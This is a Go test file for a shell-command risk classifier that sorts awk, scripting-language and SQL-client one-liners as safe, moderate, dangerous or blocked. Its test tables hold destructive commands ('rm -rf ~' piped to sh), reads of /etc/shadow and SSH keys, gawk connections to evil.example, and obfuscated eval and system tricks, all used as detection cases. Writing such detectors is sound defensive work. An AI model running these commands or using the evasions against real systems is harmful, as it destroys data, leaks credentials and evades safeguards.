package shell_test

import (
	"slices"
	"testing"

	"github.com/sayso-dev/sayso/shell"
)

// TestAwk: what leaves a program, in every awk that would run it.
func TestAwk(t *testing.T) {
	for program, want := range map[string]shell.Risk{
		// Where a regular expression starts and ends.
		`/[/"]/ { print "x" > "/home/dev/.bashrc" } #"`:               shell.Dangerous,
		`/[]/"]/ { print "x" > "/home/dev/.bashrc" } #"`:              shell.Dangerous,
		`/[^]/"]/ { print "x" > "/home/dev/.bashrc" } #"`:             shell.Dangerous,
		`/][/]"/ { print "x" > "/home/dev/.bashrc" } #"`:              shell.Dangerous,
		`BEGIN { if (1) /#/; print "x" > "/home/dev/.bashrc" }`:       shell.Dangerous,
		`{ if (1) /"/; print "rm -rf ~" | "sh" } #"`:                  shell.Dangerous,
		`{ for (;0;) /"/; print "rm -rf ~" | "sh" } #"`:               shell.Dangerous,
		`BEGIN { i++/2; print "x" > "/home/dev/.bashrc"; j = 3/1 }`:   shell.Dangerous,
		`BEGIN { i++/"/; print "x" > "/home/dev/.bashrc" #"/` + "\n}": shell.Dangerous,
		`{ print length /"/; print "x" > "/home/dev/.bashrc" } #"`:    shell.Dangerous,
		`{ $/"/ = 1; print "x" > "/home/dev/.bashrc" } #"`:            shell.Dangerous,
		`{ x = (1)/2; print "x" > "/home/dev/.bashrc"; y = (1)/"2" }`: shell.Dangerous,
		`{ print (a)/2, "#"; system("rm -rf ~") }`:                    shell.Blocked,

		// Statements that go on.
		"BEGIN { print 1,\n\"x\" > \"/home/dev/.bashrc\" }":     shell.Dangerous,
		"BEGIN { print 1, # c\n\"x\" > \"/home/dev/.bashrc\" }": shell.Dangerous,
		"BEGIN { print 1 ?\n2 : 3 > \"/home/dev/.bashrc\" }":    shell.Dangerous,
		"BEGIN { print 1 +\n2 > \"/home/dev/.bashrc\" }":        shell.Dangerous,
		"BEGIN { print 1 \\\n > \"/home/dev/.bashrc\" }":        shell.Dangerous,
		`BEGIN { print("x")("y") >> "/home/dev/.bashrc" }`:      shell.Dangerous,
		`BEGIN { print "x" > "/home/dev/" ".bashrc" }`:          shell.Dangerous,
		`BEGIN { print "x" > f }`:                               shell.Dangerous,
		"BEGIN { print \"x\" > \"/home/dev/\\056bashrc\" }":     shell.Dangerous,
		"BEGIN { getline < \"/etc/sha\\\ndow\" }":               shell.Dangerous,
		`BEGIN { getline < "/etc/shadow\0x" }`:                  shell.Moderate,
		`BEGIN { getline a[tolower("x")] < f }`:                 shell.Moderate,
		`BEGIN { getline $(1) < "/etc/shadow" }`:                shell.Dangerous,
		`BEGIN { while ((getline x < f) > 0) print x }`:         shell.Moderate,
		`BEGIN { getline < "/inet/tcp/0/evil.example/80" }`:     shell.Dangerous,
		`BEGIN { print "x" |& "/inet/tcp/0/evil.example/80" }`:  shell.Dangerous,
		`@load "filefuncs"; BEGIN { }`:                          shell.Dangerous,
		`@include "x"`:                                          shell.Dangerous,
		`BEGIN { f = "system"; @f("x") }`:                       shell.Dangerous,
		`BEGIN { system("ls;" x) }`:                             shell.Dangerous,
		`{ system($0) }`:                                        shell.Dangerous,
		`{ system ("rm -rf ~") }`:                               shell.Blocked,
		`BEGIN { "rm -rf ~;" "ls" | getline }`:                  shell.Dangerous,
		`BEGIN { x "ls" | getline }`:                            shell.Dangerous,
		`BEGIN { x = "rm -rf ~" | getline }`:                    shell.Blocked,
		`{ print "rm -rf ~" | "sh" }`:                           shell.Dangerous,
		`{ print | "xargs rm -rf" }`:                            shell.Dangerous,
		`{ print | "sort > /home/dev/.bashrc" }`:                shell.Dangerous,
		`{ print | "ca\t" }`:                                    shell.Dangerous,
		`{ print | "cat \# ; rm -rf ~" }`:                       shell.Dangerous,
		`BEGIN { ENVIRON["PATH"] = "."; "ls" | getline }`:       shell.Moderate,
		`BEGIN { ARGV[1] = x; ARGC = 2 }`:                       shell.Moderate,
		`{ print "unterminated }`:                               shell.Dangerous,

		// Ordinary programs.
		`{ print | "sort" }`:                                   shell.Safe,
		`{ print $1 | "sort -rn | head -5" }`:                  shell.Safe,
		`END { for (k in a) print k, a[k] | "sort -k2 -rn" }`:  shell.Safe,
		`BEGIN { while (("ls" | getline x) > 0) print x }`:     shell.Safe,
		`BEGIN { while ((getline x < "in") > 0 && i < 5) i++}`: shell.Safe,
		`NR > 1 && $3 > 5 { s += $3/2 } END { print s/NR }`:    shell.Safe,
		`{ print ($1+$2)/1024 " MB/s > limit" }`:               shell.Safe,
		`{ print "a > b", ($1 > $2), a[$1 > 2] }`:              shell.Safe,
		`$0 ~ /[^/]+$/ { sub(/[^/]*$/, "x"); print }`:          shell.Safe,
		`/>|"|#/ { print }`:                                    shell.Safe,
		`!seen[$0]++`:                                          shell.Safe,
		`{ print > "/dev/stderr" }`:                            shell.Safe,
		"{ print $1\n  m = $1 > m ? $1 : m }":                  shell.Safe,
		`{ print > "out.txt" }`:                                shell.Moderate,
	} {
		for _, command := range [...]string{"awk " + quoted(program) + " f", "gawk -F: -e " + quoted(program) + " f"} {
			if a := analysis(t, command); a.Risk != want {
				t.Errorf("%s: %v, want %v%s", command, a.Risk, want, detail(a))
			}
		}
	}
	// What goes into awk is not what awk prints into a shell.
	if a := analysis(t, `echo ls | awk '{ print "rm -rf ~" | "sh" }'`); a.Risk > shell.Dangerous {
		t.Errorf("%v%s", a.Risk, detail(a))
	}
}

// TestAwkDifferential: see TestSedDifferential.
func TestAwkDifferential(t *testing.T) {
	parts := []string{
		`/x/ `, `/[/]/ `, `/[/"]/; `, `/"/; `, `/#/; `, `if (1) `, `i++ `, `/2; `, `; `, "\n", "\\\n", `print "x" `, `print "x" > "F"; `, `print 1, `, `> "F"; `, `"a" `, `(1) `,
		`length `, `x = `, `+ `, `, `, `? 1 : `, "#\n", `1; `, `2 `,
	}
	for _, program := range []string{"awk", "mawk", "gawk"} {
		for _, after := range []string{"}", `} #"`, "} #/"} {
			t.Run(program+after, func(t *testing.T) { runDifferential(t, program, "{ ", after, parts) })
		}
	}
}

// TestDynamicCode: a program that calls what it puts together can do anything.
func TestDynamicCode(t *testing.T) {
	for command, want := range map[string]shell.Risk{
		`php -r '("sys"."tem")("id");'`:                              shell.Dangerous,
		`php -r '"system"("id");'`:                                   shell.Dangerous,
		`php -r '$f = $a . $b; $f("id");'`:                           shell.Dangerous,
		`php -r '($a.$b)("id");'`:                                    shell.Dangerous,
		`php -r '$o->$m("x");'`:                                      shell.Dangerous,
		`php -r '$o->{"x".$y}("x");'`:                                shell.Dangerous,
		`php -r 'new $c("x");'`:                                      shell.Dangerous,
		`php -r '["C", "m"]("x");'`:                                  shell.Dangerous,
		`php -r 'array_map("system", ["id"]);'`:                      shell.Dangerous,
		`php -r 'array_map($f, ["id"]);'`:                            shell.Dangerous,
		`php -r 'usort($x, "ass"."ert");'`:                           shell.Dangerous,
		`php -r 'System("rm -rf ~");'`:                               shell.Blocked,
		`php -r 'call_user_func("x");'`:                              shell.Dangerous,
		`node -e "require('child_'+'process').exec(x)"`:              shell.Dangerous,
		`node -e "require(process.argv[1])"`:                         shell.Dangerous,
		`node -e "const f = require; f('x')"`:                        shell.Dangerous,
		`node -e "import(x)"`:                                        shell.Dangerous,
		`node -e "global['ev'+'al']('x')"`:                           shell.Dangerous,
		`node -e "x['constructor']('y')"`:                            shell.Dangerous,
		`node -e "[].map.constructor('return 1')()"`:                 shell.Dangerous,
		`node -e "Object.values(x)[0]('y')"`:                         shell.Dangerous,
		`node -e "(0, x.y)('z')"`:                                    shell.Dangerous,
		`node -e '\u0065val(x)'`:                                     shell.Dangerous,
		`node -e '/*"*/ eval(x) /*"*/'`:                              shell.Dangerous,
		`node -e 'a.b(/"/); eval(x) //"'`:                            shell.Dangerous,
		`python3 -c "getattr(o, 'sys'+'tem')('x')"`:                  shell.Dangerous,
		`python3 -c "vars(os)[x]('y')"`:                              shell.Dangerous,
		`python3 -c "attrgetter('system')(os)('x')"`:                 shell.Dangerous,
		`python3 -c "setattr(x, y, z)"`:                              shell.Dangerous,
		`python3 -c "import importlib as i; i.import_module(x)"`:     shell.Dangerous,
		`python3 -c "open('/etc/sha'+'dow').read()"`:                 shell.Dangerous,
		`python3 -c 'print(f"{eval(x)}")'`:                           shell.Dangerous,
		`python3 -c 'ｅval(x)'`:                                       shell.Dangerous,
		"python3 -c 'x=1#\"\nimport os; os.system(\"rm -rf ~\")#\"'": shell.Blocked,
		`perl -e '"sys"."tem"'`:                                      shell.Dangerous,
		`perl -e '&{"x".$y}("z")'`:                                   shell.Dangerous,
		`perl -e '&$f("x")'`:                                         shell.Dangerous,
		`perl -e '$f->("x")'`:                                        shell.Dangerous,
		`perl -e '$o->$m("x")'`:                                      shell.Dangerous,
		`perl -e '*{"x"} = $y'`:                                      shell.Dangerous,
		`perl -pe 's/x/$y/ee' f`:                                     shell.Dangerous,
		`perl -e 'CORE::system("rm -rf ~")'`:                         shell.Blocked,
		`perl -e 's/"//; system("rm -rf ~"); #"'`:                    shell.Dangerous,
		`perl -e 's/"//; system "rm -rf ~"; #"'`:                     shell.Dangerous,
		`perl -e 'open(F, "rm -rf ~|")'`:                             shell.Blocked,
		`perl -e 'open(F, "-|", "rm -rf ~")'`:                        shell.Blocked,
		`perl -ne print 'rm -rf ~|'`:                                 shell.Blocked,
		`ruby -e 'send(:"sys"+"tem", "x")'`:                          shell.Dangerous,
		`ruby -e 'Kernel.public_send(x, "y")'`:                       shell.Dangerous,
		`ruby -e 'Object.const_get(x)'`:                              shell.Dangerous,
		`ruby -e 'Kernel.spawn("rm -rf ~")'`:                         shell.Blocked,
		`ruby -e 'open("|rm -rf ~")'`:                                shell.Blocked,
		`ruby -e 'x = %q(it"s); system("rm -rf ~") #"'`:              shell.Dangerous,
		`lua -e 'os["exec".."ute"]("x")'`:                            shell.Dangerous,

		`php -r '(function () { echo 1; })();'`:                                  shell.Moderate,
		`php -r 'array_map("trim", explode(",", $x)); usort($a, fn($x) => 1);'`:  shell.Moderate,
		`php -r 'if ($x) { echo $a[0] * (1 + 2); } foreach ($a as $b) (f($b));'`: shell.Moderate,
		`node -e "console.log(require('./package.json').version)"`:               shell.Moderate,
		`node -p "require('./package.json').scripts['build']"`:                   shell.Moderate,
		`node -p process.version`:                                                shell.Moderate,
		`node -e "(async () => { console.log(await f()) })()"`:                   shell.Moderate,
		`node -e "(x => x)(1); (function () {})()"`:                              shell.Moderate,
		`node -e "require('express')().listen(3000)"`:                            shell.Moderate,
		`node -e "import('fs').then(m => console.log(x.constructor.name))"`:      shell.Moderate,
		`node -p "'a/b'.split('/')[0].replace(/\u001b/g, '')"`:                   shell.Moderate,
		`python3 -c "import sys; print(sys.version)"`:                            shell.Moderate,
		`python3 -c "import json, sys; print(json.load(sys.stdin)['a']['b'])"`:   shell.Moderate,
		`python3 -c "print('a' + 'b', f'{x!r} {len(y)}')"`:                       shell.Moderate,
		`perl -pe 's/(\d+)/$1*2/e' f`:                                            shell.Moderate,
		`perl -ne 'print if /see/ && $. > 3' f`:                                  shell.Moderate,
		`perl -e 'print join(",", map { $_->{x} } @{$d->{y}})'`:                  shell.Moderate,
		`ruby -rjson -e 'puts JSON.parse(STDIN.read)["a"]'`:                      shell.Moderate,
		`ruby -e 'puts request.method, [1, 2].map { |x| x * 2 }.inspect'`:        shell.Moderate,
	} {
		if a := analysis(t, command); a.Risk != want {
			t.Errorf("%s: %v, want %v%s", command, a.Risk, want, detail(a))
		}
	}
}

// TestSQLFiles: the files that statements and the clients' own commands name.
func TestSQLFiles(t *testing.T) {
	for command, want := range map[string]string{
		`psql -c "COPY t TO '/etc/x'"`:                                         "write /etc/x",
		`psql -c "COPY t FROM '/etc/x'"`:                                       "read /etc/x",
		`psql -c "COPY t TO E'/etc/x'"`:                                        "write /etc/x",
		`psql -c 'COPY t TO $$/etc/x$$'`:                                       "write /etc/x",
		`psql -c "select pg_read_file('/etc/shadow')"`:                         "read /etc/shadow",
		`psql -c "\copy t from '/home/dev/.ssh/id_rsa' csv"`:                   "read /home/dev/.ssh/id_rsa",
		`psql -c "\copy (select * from t) to /etc/x csv"`:                      "write /etc/x",
		`psql -c '\i /etc/x.sql'`:                                              "read /etc/x.sql",
		`mysql -e "SELECT * FROM t INTO OUTFILE '/etc/x'"`:                     "write /etc/x",
		`mysql -e "SELECT LOAD_FILE('/etc/shadow')"`:                           "read /etc/shadow",
		`mysql -e "LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE t"`:         "read /etc/shadow",
		`mysql -e 'select 1 \T /etc/x'`:                                        "write /etc/x",
		`sqlite3 a.db "ATTACH '/etc/x.db' AS c; SELECT 1"`:                     "write /etc/x.db",
		`sqlite3 a.db "ATTACH DATABASE 'file:/etc/x.db?mode=ro' AS c"`:         "read /etc/x.db",
		`sqlite3 a.db "VACUUM INTO '/etc/x.db'"`:                               "write /etc/x.db",
		`sqlite3 a.db "select readfile('/etc/shadow')"`:                        "read /etc/shadow",
		`sqlite3 a.db "select writefile('/etc/x', y)"`:                         "write /etc/x",
		`sqlite3 a.db ".import --csv '/home/dev/.ssh/id_rsa' t"`:               "read /home/dev/.ssh/id_rsa",
		`sqlite3 a.db ".import --skip 1 /etc/x t"`:                             "read /etc/x",
		`sqlite3 a.db '.outp /etc/x'`:                                          "write /etc/x",
		`sqlite3 a.db '.open /etc/x.db'`:                                       "write /etc/x.db",
		`duckdb -c "SELECT * FROM read_csv('~/.ssh/id_rsa')"`:                  "read /home/dev/.ssh/id_rsa",
		`duckdb -c "SELECT * FROM read_json(['a.json', '/etc/x.json'])"`:       "read /etc/x.json",
		`duckdb -c "SELECT * FROM '/home/dev/.ssh/id_rsa'"`:                    "read /home/dev/.ssh/id_rsa",
		`duckdb -c "COPY (SELECT * FROM 'a.parquet') TO '/etc/x.csv'"`:         "write /etc/x.csv",
		`duckdb -c "EXPORT DATABASE '/etc/x'"`:                                 "write /etc/x",
		`clickhouse-client --query "SELECT * FROM file('/etc/shadow', 'CSV')"`: "read /etc/shadow",
	} {
		a := analysis(t, command)
		var got []string
		for _, c := range a.Commands {
			for _, p := range c.Paths {
				got = append(got, p.Access.String()+" "+p.Abs)
			}
		}
		if !slices.Contains(got, want) {
			t.Errorf("%s: no %s, only %q", command, want, got)
		}
		if (want[:5] == "write" || want == "read /etc/shadow" || want == "read /home/dev/.ssh/id_rsa") && a.Risk > shell.Dangerous {
			t.Errorf("%s: %v", command, a.Risk)
		}
	}
	for command, want := range map[string]shell.Risk{
		`mysql -e 'select 1 \! rm -rf ~'`:                      shell.Blocked,
		`mysql -e 'select 1\! rm -rf ~'`:                       shell.Blocked,
		`psql -c '\!rm -rf ~'`:                                 shell.Blocked,
		`psql -c "\copy t to program 'rm -rf ~'"`:              shell.Blocked,
		`sqlite3 a.db ".import '|rm -rf ~' t"`:                 shell.Blocked,
		`sqlite3 a.db '.once |rm -rf ~'`:                       shell.Blocked,
		`duckdb -c "select * from read_csv('a' || x)"`:         shell.Moderate,
		`duckdb -c "SELECT avg(price) FROM 'sales.parquet'"`:   shell.Safe,
		`mysql -e 'select * from t\G'`:                         shell.Safe,
		`psql -c "select * from t where name = '/etc/shadow'"`: shell.Safe,
		`psql -c 'select "a/b" from "Users"'`:                  shell.Safe,
		`psql -c "select substring(x from 'a') from t"`:        shell.Safe,
		`psql -c '\d+ users'`:                                  shell.Safe,
		`sqlite3 a.db "ATTACH 'other.db' AS o; SELECT 1"`:      shell.Moderate,
		`sqlite3 a.db "insert into t values ('/etc/passwd')"`:  shell.Moderate,
		`psql -c "\copy (select * from t) to 'out.csv' csv"`:   shell.Moderate,
	} {
		if a := analysis(t, command); a.Risk != want {
			t.Errorf("%s: %v, want %v%s", command, a.Risk, want, detail(a))
		}
	}
}
